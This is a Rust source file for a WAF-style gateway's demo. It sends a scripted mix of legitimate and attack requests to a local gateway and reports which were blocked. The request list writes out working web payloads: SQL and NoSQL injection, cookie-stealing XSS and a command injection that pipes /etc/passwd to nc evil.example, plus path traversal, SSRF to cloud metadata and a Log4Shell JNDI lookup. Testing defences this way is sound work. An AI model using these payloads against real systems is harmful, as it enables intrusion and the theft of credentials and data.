//! `palisade demo`: the embedded sample API with Palisade in front, and
//! `--attack`, a scripted mix of legitimate and hostile requests.

use anyhow::{Context, Result};
use bytes::Bytes;
use http::{Method, Request};
use http_body_util::{BodyExt, Full};
use hyper_util::client::legacy::Client;
use hyper_util::rt::TokioExecutor;
use std::net::SocketAddr;

/// Whether a scripted request should get through.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Expect {
    Allow,
    Block,
}

/// One scripted request.
#[derive(Debug, Clone)]
pub struct Scripted {
    pub label: &'static str,
    pub method: Method,
    pub path: String,
    pub headers: Vec<(&'static str, String)>,
    pub body: Option<String>,
    pub expect: Expect,
}

fn req(label: &'static str, method: Method, path: &str, expect: Expect) -> Scripted {
    Scripted {
        label,
        method,
        path: path.to_string(),
        headers: Vec::new(),
        body: None,
        expect,
    }
}

fn json(label: &'static str, path: &str, body: &str, expect: Expect) -> Scripted {
    Scripted {
        label,
        method: Method::POST,
        path: path.to_string(),
        headers: vec![("content-type", "application/json".into())],
        body: Some(body.to_string()),
        expect,
    }
}

/// The attack script: legitimate traffic first, then one attack per class.
pub fn script() -> Vec<Scripted> {
    use Expect::*;
    vec![
        req(
            "list products",
            Method::GET,
            "/api/products?q=desk&limit=5",
            Allow,
        ),
        req(
            "product search with an apostrophe",
            Method::GET,
            "/api/products?q=O%27Reilly%20book",
            Allow,
        ),
        json(
            "login",
            "/api/login",
            r#"{"username":"alice","password":"alice-wonderland-1"}"#,
            Allow,
        ),
        json(
            "comment with prose",
            "/api/comments",
            r#"{"text":"Select the seat you like, then pay; it's that simple."}"#,
            Allow,
        ),
        req("seat availability", Method::GET, "/api/seats", Allow),
        req(
            "SQL injection in query",
            Method::GET,
            "/api/products?q=%27%20OR%201%3D1--",
            Block,
        ),
        req(
            "UNION-based SQL injection",
            Method::GET,
            "/api/products?category=1%20UNION%20SELECT%20username,password%20FROM%20users",
            Block,
        ),
        json(
            "XSS in JSON comment",
            "/api/comments",
            r#"{"text":"<script>fetch('//evil.example/'+document.cookie)</script>"}"#,
            Block,
        ),
        json(
            "NoSQL operator injection",
            "/api/login",
            r#"{"username":{"$ne":null},"password":{"$ne":null}}"#,
            Block,
        ),
        req(
            "path traversal",
            Method::GET,
            "/api/products?image=..%2F..%2F..%2Fetc%2Fpasswd",
            Block,
        ),
        json(
            "command injection",
            "/api/comments",
            r#"{"text":"nice; cat /etc/passwd | nc evil.example 4444"}"#,
            Block,
        ),
        json(
            "SSRF to cloud metadata",
            "/api/comments",
            r#"{"avatar_url":"http://169.254.169.254/latest/meta-data/iam/"}"#,
            Block,
        ),
        req(
            "Log4Shell lookup in header",
            Method::GET,
            "/api/products",
            Block,
        )
        .with_header("user-agent", "${jndi:ldap://evil.example/a}"),
        json(
            "template injection",
            "/api/comments",
            r#"{"text":"{{7*7}}${{7*7}}<%= 7*7 %>"}"#,
            Block,
        ),
        json(
            "prototype pollution",
            "/api/comments",
            r#"{"__proto__":{"isAdmin":true}}"#,
            Block,
        ),
        req("oversized body", Method::POST, "/api/comments", Block)
            .with_header("content-type", "application/json")
            .with_body(format!("{{\"text\":\"{}\"}}", "a".repeat(11 << 20))),
        req(
            "stack trace leak is scrubbed",
            Method::GET,
            "/api/debug/crash",
            Allow,
        ),
    ]
}

impl Scripted {
    fn with_header(mut self, name: &'static str, value: &str) -> Self {
        self.headers.push((name, value.to_string()));
        self
    }
    fn with_body(mut self, body: String) -> Self {
        self.body = Some(body);
        self
    }
}

/// Outcome of one scripted request.
#[derive(Debug, Clone)]
pub struct Outcome {
    pub label: &'static str,
    pub expect: Expect,
    pub status: u16,
    pub blocked: bool,
    pub note: String,
}

/// Sends the script to the gateway at `addr`.
pub async fn run_attack(addr: SocketAddr) -> Result<Vec<Outcome>> {
    let client: Client<_, Full<Bytes>> = Client::builder(TokioExecutor::new()).build_http();
    let mut out = Vec::new();
    for s in script() {
        let mut builder = Request::builder()
            .method(s.method.clone())
            .uri(format!("http://{addr}{}", s.path));
        for (k, v) in &s.headers {
            builder = builder.header(*k, v);
        }
        let body = s.body.clone().map(Bytes::from).unwrap_or_default();
        let request = builder
            .body(Full::new(body))
            .context("building a scripted request")?;
        let resp = client
            .request(request)
            .await
            .with_context(|| format!("sending `{}`", s.label))?;
        let status = resp.status().as_u16();
        // Palisade's own refusals are problem documents; an upstream 401 is not a block.
        let problem = resp
            .headers()
            .get(http::header::CONTENT_TYPE)
            .is_some_and(|v| v.as_bytes() == b"application/problem+json");
        let text = resp
            .into_body()
            .collect()
            .await
            .map(|b| b.to_bytes())
            .unwrap_or_default();
        let text = String::from_utf8_lossy(&text);
        let blocked = problem && (400..500).contains(&status);
        let note = if status >= 500 && problem {
            "error body replaced".to_string()
        } else if blocked {
            serde_json::from_str::<serde_json::Value>(&text)
                .ok()
                .and_then(|v| v["title"].as_str().map(str::to_string))
                .unwrap_or_default()
        } else {
            String::new()
        };
        out.push(Outcome {
            label: s.label,
            expect: s.expect,
            status,
            blocked,
            note,
        });
    }
    Ok(out)
}

/// Renders outcomes as a table, with a summary line.
pub fn render_table(outcomes: &[Outcome]) -> String {
    let mut s = String::new();
    s.push_str(&format!(
        "{:<38} {:<8} {:>6}  {:<8} {}\n",
        "request", "expected", "status", "result", "note"
    ));
    s.push_str(&format!("{}\n", "-".repeat(92)));
    let mut as_expected = 0;
    for o in outcomes {
        let result = if o.blocked { "BLOCKED" } else { "allowed" };
        let ok = (o.expect == Expect::Block) == o.blocked;
        if ok {
            as_expected += 1;
        }
        s.push_str(&format!(
            "{:<38} {:<8} {:>6}  {:<8} {}{}\n",
            o.label,
            if o.expect == Expect::Block {
                "block"
            } else {
                "allow"
            },
            o.status,
            result,
            if ok { "" } else { "UNEXPECTED " },
            o.note
        ));
    }
    let blocked = outcomes.iter().filter(|o| o.blocked).count();
    s.push_str(&format!(
        "\n{} requests: {} allowed, {} blocked; {} of {} as expected\n",
        outcomes.len(),
        outcomes.len() - blocked,
        blocked,
        as_expected,
        outcomes.len()
    ));
    s
}
